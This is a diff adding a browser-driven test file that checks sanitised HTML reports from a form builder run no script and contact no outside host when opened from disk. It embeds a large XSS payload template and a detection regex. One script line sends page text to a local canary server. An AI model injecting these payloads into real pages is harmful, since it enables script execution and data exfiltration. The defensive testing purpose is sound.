@@ -1,0 +1,153 @@
+/** HTML reports as files: opened from the disk in a real browser, beside a server that hears of every request. */
+import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { pathToFileURL } from "node:url";
+import type { Browser, Page } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { api } from "../../shared/contract/index.ts";
+import { MAX_ANSWERS_BYTES, MAX_INLINE_OUTPUT_BYTES } from "../../shared/limits.ts";
+import { publishTypedForm } from "../faults/lost-typing/typed-form.ts";
+import { launchTestBrowser } from "../support/browser.ts";
+import { must, signUpDesigner, submitAnswers, waitForReports } from "../support/published-form.ts";
+import { type Client, useStack } from "../support/stack.ts";
+
+const stack = useStack();
+let browser: Browser;
+let canary: Server;
+let elsewhere: string;
+let folder: string;
+let designer: Client;
+const asked: string[] = [];
+
+beforeAll(async () => {
+  browser = await launchTestBrowser();
+  folder = await mkdtemp(join(tmpdir(), "sprout-saved-"));
+  canary = createServer((request, response) => {
+    asked.push(request.url ?? "");
+    response.end();
+  });
+  canary.on("connection", (socket) => socket.once("error", () => {}));
+  await new Promise<void>((listening) => canary.listen(0, "127.0.0.1", listening));
+  elsewhere = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`; // a TCP server's address is an object
+  designer = stack.client();
+  await signUpDesigner(designer, stack.mails);
+});
+afterAll(async () => {
+  await browser?.close();
+  canary?.closeAllConnections();
+  await new Promise((closed) => canary.close(closed));
+  await rm(folder, { recursive: true, force: true });
+});
+
+/** Whatever makes a page run or ask, each with a mark of its own. */
+const hostile = (
+  to: string,
+) => `<!doctype html><html lang="en" manifest="${to}/manifest" onload="document.title='ran'"><head>
+<meta http-equiv="refresh" content="0; url=${to}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *">
+<base href="${to}/"><link rel="stylesheet" href="${to}/link.css"><link rel="preconnect" href="${to}"><link rel="prefetch" href="${to}/prefetch">
+<script>document.title = "ran"; fetch("${to}/script?" + document.body.innerText)</script><script src="${to}/src.js"></script>
+<script type="speculationrules">{"prefetch":[{"urls":["${to}/speculation"]}]}</script>
+<style>@import "${to}/import.css"; body { background: u\\72l(${to}/escaped) } p { background: url(${to}/css) } @font-face { font-family: x; src: url(${to}/font) } p { font-family: x }</style>
+</head><body background="${to}/body" onload="document.title='ran'"><p>Ada Lovelace, né {{name}}</p>
+<img src="${to}/img" srcset="${to}/srcset 2x" onerror="document.title='ran'"><img src="x" onerror="document.title='ran'">
+<svg onload="document.title='ran'"><image href="${to}/svg"/><use xlink:href="${to}/use#x"/><script>document.title='ran'</script></svg>
+<iframe src="${to}/frame"></iframe><iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe><iframe src="javascript:parent.document.title='ran'"></iframe>
+<object data="${to}/object"></object><embed src="${to}/embed"><video src="${to}/video" poster="${to}/poster" autoplay></video><audio src="${to}/audio" autoplay></audio>
+<details open ontoggle="document.title='ran'">x</details><input autofocus onfocus="document.title='ran'"><input type="image" src="${to}/input">
+<a id="a" href="javascript:document.title='ran'" ping="${to}/ping">script</a><form id="f" action="${to}/form"><button id="b">Send</button></form>
+<div><template shadowrootmode="open"><img src="${to}/shadow"></template></div><math><mtext><img src="${to}/math" onerror="document.title='ran'"></mtext></math></body></html>`;
+
+/** Opens a file from the disk and looks on for a while. @returns what it asked for, and what `look` sees */
+async function openFromDisk<Seen>(body: Uint8Array | string, look: (page: Page) => Promise<Seen>) {
+  asked.length = 0;
+  const file = join(folder, "report.html");
+  await writeFile(file, body);
+  const page = await browser.newPage();
+  try {
+    await page.goto(pathToFileURL(file).href, { waitUntil: "commit" });
+    await page.waitForTimeout(800);
+    const seen = await look(page);
+    return { asked: [...asked], seen };
+  } finally {
+    await page.close();
+  }
+}
+
+/** Presses what could be pressed, and tells whether anything ran. */
+async function press(page: Page) {
+  for (const id of ["a", "b"]) await page.locator(`#${id}`).dispatchEvent("click", {}, { timeout: 2_000 });
+  await page.waitForTimeout(300);
+  return {
+    title: await page.title(),
+    isHere: page.url().startsWith("file:"),
+    text: await page.innerText("body"),
+  };
+}
+
+const still = { asked: [], seen: { title: "", isHere: true } };
+
+async function publishReport(template: string): Promise<string> {
+  const { formId, publicationKey: _ } = await publishTypedForm(designer);
+  const { model } = must(await designer.call(api.process.processes, { id: formId }));
+  const root = JSON.parse(model);
+  const report = {
+    ...{ key: crypto.randomUUID(), name: "Report", description: "", processType: "HANDLEBARS", children: [] },
+    ...{ publicOutputInd: true, outputName: "Report", propertySets: [], level: 1, template },
+  };
+  const saved = { formId, model: JSON.stringify({ ...root, children: [report] }) };
+  must(await designer.call(api.process.processSave, saved));
+  return must(await designer.call(api.forms.publish, { id: formId, publicationName: "Hostile" }))
+    .publicationKey;
+}
+
+describe("an HTML report that was saved", () => {
+  it("is one that would have asked for much, were it as its template made it", async () => {
+    const { asked: heard } = await openFromDisk(hostile(elsewhere), async () => {});
+    expect(heard.length).toBeGreaterThan(5);
+  });
+
+  it("runs nothing and asks for nothing, as the call gives it and as the page saves it", async () => {
+    const publicationKey = await publishReport(hostile(elsewhere));
+    const respondent = stack.client();
+    const { ref } = await submitAnswers(respondent, publicationKey, { name: "Ada" });
+    const { outputReferences } = await waitForReports(respondent, ref);
+    const [{ outputId = "" } = {}] = outputReferences;
+    const { data = "" } = must(await respondent.call(api.runtime.output, { ...ref, outputId }));
+    const body = Buffer.from(data, "base64");
+    expect(body.toString()).toMatch(
+      /^<!DOCTYPE html><meta charset="utf-8"><meta http-equiv="Content-Security-Policy"/i,
+    );
+    expect(body.toString()).not.toMatch(/<script|\son\w+=|refresh|<link|javascript:/i);
+    const opened = await openFromDisk(body, press);
+    expect(opened).toMatchObject(still);
+    expect(opened.seen.text).toContain("Ada Lovelace, né Ada");
+
+    const context = await browser.newContext({ locale: "en-US", acceptDownloads: true });
+    const page = await context.newPage();
+    await page.goto(`${stack.origin}/i/${ref.instanceKey}#${ref.authKey}`);
+    const download = page.waitForEvent("download");
+    await page.getByRole("button", { name: "Save Report" }).click();
+    const path = await (await download).path();
+    const fromPage = await openFromDisk(await readFile(path), press);
+    await context.close();
+    expect(fromPage).toMatchObject(still);
+  });
+
+  it("runs nothing either when it is so large that a link leads to it", async () => {
+    const long = "<p>{{story}}</p>".repeat(Math.ceil(MAX_INLINE_OUTPUT_BYTES / (MAX_ANSWERS_BYTES / 2)) + 1);
+    const publicationKey = await publishReport(hostile(elsewhere).replace("</body>", `${long}</body>`));
+    const respondent = stack.client();
+    const { ref } = await submitAnswers(respondent, publicationKey, {
+      story: "x".repeat(MAX_ANSWERS_BYTES / 2),
+    });
+    const { outputReferences } = await waitForReports(respondent, ref);
+    const [{ outputId = "" } = {}] = outputReferences;
+    const { url = "" } = must(await respondent.call(api.runtime.output, { ...ref, outputId }));
+    const body = new Uint8Array(await (await fetch(url)).arrayBuffer());
+    expect(body.length).toBeGreaterThan(MAX_INLINE_OUTPUT_BYTES);
+    expect(await openFromDisk(body, press)).toMatchObject(still);
+  });
+});
